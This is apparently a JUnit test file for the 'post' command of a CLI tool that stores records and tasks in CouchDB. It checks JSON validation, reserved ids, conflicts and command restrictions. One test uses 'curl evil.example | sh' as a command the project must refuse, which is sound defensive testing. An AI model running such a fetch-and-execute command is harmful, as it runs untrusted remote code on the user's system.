package dirt.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dirt.store.couch.CouchServerExtension;
import dirt.store.couch.JacksonBridge;
import dirt.store.couch.TestCouch;
import dirt.store.couch.ViewQuery;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

@ExtendWith(CouchServerExtension.class)
class PostCommandTest {
    @TempDir
    Path dir;

    private Cli cli;
    private String db;
    private TestCouch couch;

    @BeforeEach
    void create_project(TestCouch couch) throws IOException {
        this.couch = couch;
        cli = new Cli(dir, Map.of("HOME", dir.toString(), "DIRT_COUCH_URL", couch.url()));
        db = couch.newDatabaseName();
        var created = cli.run("create", "demo", db);
        Cli.allowAnyCommand(dir.resolve("demo"));
        assertThat(created.exitCode()).as(created.err()).isZero();
    }

    private Cli.Run post(String json) throws IOException {
        Path file = Files.writeString(dir.resolve("docs.json"), json);
        return cli.run("post", "--project", "demo", file.toString());
    }

    private int docCount() {
        return couch.client().database(db).allDocs(ViewQuery.all()).rows().size();
    }

    @Test
    void post_stores_the_sample_data_of_a_new_project() {
        var run = cli.run("post", "--project", "demo", "demo/test_data.json");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("stored record r123", "stored record r124", " 0 not stored");
        assertThat(couch.client().database(db).get("r123")).isPresent();
    }

    @Test
    void post_accepts_the_seed_r123_body_and_fills_in_a_missing_created() throws IOException {
        var run = post("""
                {"docs": [
                  {"_id": "r123", "type": "record", "description": "this is revision one two three"},
                  {"_id": "2e3dabbff38ca7f6fa05c5a0cbbc95a5", "type": "task", "record_id": "r123",
                   "name": "compile_hello", "platform": "linux", "created": 1315347385}
                ]}""");

        assertThat(run.exitCode()).as(run.err()).isZero();
        var record = couch.client().database(db).get("r123").orElseThrow();
        assertThat(record.path("created").isNumber()).isTrue();
        var task = couch.client().database(db).get("2e3dabbff38ca7f6fa05c5a0cbbc95a5").orElseThrow();
        assertThat(task.path("platform").asText()).isEqualTo("linux");
        assertThat(task.path("created").asLong()).isEqualTo(1315347385L);
    }

    @Test
    void documents_one_after_another_are_refused_with_how_to_post_several() throws IOException {
        var run = post("{\"_id\": \"r1\", \"type\": \"record\"}\n{\"_id\": \"r2\", \"type\": \"record\"}");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err()).contains("there is more after the JSON value", "line 2, column",
                "nothing was posted; several documents go in one array or in {\"docs\": [...]}");
        assertThat(docCount()).isZero();
    }

    @Test
    void malformed_json_names_the_place_and_stores_nothing() throws IOException {
        var run = post("{\"docs\": [ {\"_id\": \"r1\", \"type\": \"record\",, } ]}");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err()).contains("is not valid JSON", "line 1, column", "nothing was posted");
        assertThat(docCount()).isZero();
    }

    @Test
    void an_invalid_task_lists_every_problem_and_stores_nothing() throws IOException {
        var run = post("""
                [{"_id": "r1", "type": "record", "description": "fine"},
                 {"_id": "t1", "type": "task", "kwargs": [1, 2], "requires": ["arch equals x86_64", 7]}]""");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err())
                .contains("docs[1] task \"t1\": name")
                .contains("docs[1] task \"t1\": record_id")
                .contains("docs[1] task \"t1\": kwargs")
                .contains("unknown operator \"equals\"")
                .contains("docs[1] task \"t1\": requires[1]")
                .contains("nothing was posted");
        assertThat(docCount()).isZero();
    }

    @Test
    void reserved_ids_other_types_and_a_docs_that_is_no_array_are_refused_and_nothing_is_stored() throws IOException {
        var run = post("""
                [{"_id": "_design/evil", "type": "record", "views": {}},
                 {"_id": "_local/x", "type": "record"},
                 {"_id": "n1", "type": "wat"},
                 {"a": 1}]""");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err())
                .contains("docs[0] record \"_design/evil\": _id starts with \"_\", which CouchDB keeps")
                .contains("docs[1] record \"_local/x\": _id starts with")
                .contains("docs[2] wat \"n1\": type must be \"record\", \"task\" or \"schedule\", got \"wat\"")
                .contains("docs[3] document: type must be")
                .contains("nothing was posted");
        var wrapped = post("{\"docs\": {\"a\": 1}}");
        assertThat(wrapped.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(wrapped.err()).contains("\"docs\" must be an array of documents, got OBJECT — nothing was posted");
        assertThat(docCount()).isZero();
    }

    @Test
    void the_same_id_twice_in_one_batch_is_refused_naming_the_first_and_nothing_is_stored() throws IOException {
        var run = post("""
                [{"_id": "r1", "type": "record"},
                 {"_id": "t1", "type": "task", "record_id": "r1", "name": "x", "command": "true"},
                 {"_id": "t1", "type": "task", "record_id": "r1", "name": "y", "command": "true"}]""");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err()).contains("docs[2] task \"t1\": _id is also the _id of docs[1] — give each document of"
                + " the batch its own _id").contains("nothing was posted");
        assertThat(docCount()).isZero();
    }

    @Test
    void a_malformed_after_check_or_broadcast_is_refused_with_what_to_write_instead() throws IOException {
        var run = post("""
                [{"_id": "r1", "type": "record"},
                 {"_id": "t1", "type": "task", "record_id": "r1", "name": "x", "command": "true",
                  "after": "build", "check": 7, "broadcast": "yes"}]""");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err())
                .contains("docs[1] task \"t1\": after must be a list of names or _ids of tasks of the same record")
                .contains("docs[1] task \"t1\": check must be a string, got 7")
                .contains("docs[1] task \"t1\": broadcast must be true or false, got \"yes\"")
                .contains("nothing was posted");
        assertThat(docCount()).isZero();
    }

    @Test
    void a_conflicting_document_is_reported_and_the_others_are_stored() throws IOException {
        post("[{\"_id\": \"r1\", \"type\": \"record\"}]");

        var run = post("[{\"_id\": \"r1\", \"type\": \"record\"}, {\"_id\": \"r2\", \"type\": \"record\"}]");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err()).contains("not stored: record r1 already exists");
        assertThat(run.out()).contains("stored record r2", "1 stored, 1 not stored");
        assertThat(docCount()).isEqualTo(2);
    }

    @Test
    void json_output_gives_one_result_per_document() throws IOException {
        Path file = Files.writeString(dir.resolve("one.json"), "{\"_id\": \"r9\", \"type\": \"record\"}");

        var run = cli.run("post", "--project", "demo", "--json", file.toString());

        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).contains("\"id\" : \"r9\"", "\"ok\" : true");
    }

    @Test
    void a_command_line_the_project_does_not_allow_is_refused_before_anything_is_posted() throws IOException {
        Path settings = dir.resolve("demo/settings.toml");
        Files.writeString(settings, Files.readString(settings).replace("free_form = true", "free_form = false"));

        var run = cli.run("post", "--project", "demo", "--record", "r126", "--command", "curl evil.example | sh");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err()).contains("command \"curl evil.example | sh\" is not allowed", "free_form = true",
                "nothing was posted");
        assertThat(docCount()).isZero();
    }

    @Test
    void flags_post_a_record_and_its_tasks_without_a_file_with_the_kwargs_on_each() {
        var run = cli.run("post", "--project", "demo", "--record", "r125", "--description", "nightly",
                "--task", "examples.simple", "--task", "examples.arguments", "--kwargs", "{\"foo\": 1}",
                "--command", "make test", "--require", "architecture is x86_64");

        assertThat(run.exitCode()).as(run.err()).isZero();
        var db = couch.client().database(this.db);
        assertThat(db.get("r125").orElseThrow().path("description").asText()).isEqualTo("nightly");
        var tasks = db.allDocs(ViewQuery.all().includeDocs(true)).rows().stream()
                .map(row -> JacksonBridge.tree(row.doc()))
                .filter(doc -> "task".equals(doc.path("type").asText())).toList();
        assertThat(tasks).hasSize(3).allSatisfy(task -> {
            assertThat(task.path("record_id").asText()).isEqualTo("r125");
            assertThat(task.path("requires").get(0).asText()).isEqualTo("architecture is x86_64");
            assertThat(task.path("kwargs").path("foo").asInt()).as("kwargs of every task and command").isEqualTo(1);
        });
        assertThat(tasks).anySatisfy(task -> assertThat(task.path("command").asText()).isEqualTo("make test"));
    }

    @Test
    void flags_for_an_existing_record_add_tasks_to_it() {
        cli.run("post", "--project", "demo", "--record", "r125", "--task", "examples.simple");

        var again = cli.run("post", "--project", "demo", "--record", "r125", "--task", "examples.arguments");

        assertThat(again.exitCode()).as(again.err()).isZero();
        assertThat(docCount()).isEqualTo(3);
    }

    @Test
    void bad_kwargs_json_is_a_clear_error() {
        var run = cli.run("post", "--project", "demo", "--record", "r1", "--task", "examples.simple",
                "--kwargs", "{foo: 1}");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.err()).contains("--kwargs is not valid JSON");
        assertThat(docCount()).isZero();
    }

    @Test
    void wait_reports_a_failed_task_and_exits_nonzero(TestCouch couch) throws Exception {
        var db = couch.client().database(this.db);
        var run = new java.util.concurrent.atomic.AtomicReference<Cli.Run>();
        var poster = new Thread(() -> run.set(cli.run("post", "--project", "demo", "--record", "r7",
                "--command", "false", "--wait", "--timeout", "30")));
        poster.start();
        var task = org.awaitility.Awaitility.await().atMost(java.time.Duration.ofSeconds(20)).until(
                () -> db.allDocs(ViewQuery.all().includeDocs(true)).rows().stream()
                        .map(row -> JacksonBridge.tree(row.doc()))
                        .filter(doc -> "task".equals(doc.path("type").asText())).findFirst(),
                java.util.Optional::isPresent).orElseThrow();
        task.put("started", 1).put("completed", 2).put("node", "n").putObject("results").put("success", false)
                .put("reason", "command exited with code 1");
        db.put(task);
        poster.join(30_000);

        assertThat(run.get().exitCode()).isEqualTo(ExitCodes.FAILED);
        assertThat(run.get().out()).contains("1/1 done, 1 failed").contains("posted tasks: 0 passed, 1 failed");
        assertThat(run.get().err()).contains("failed: command exited with code 1");
    }
}
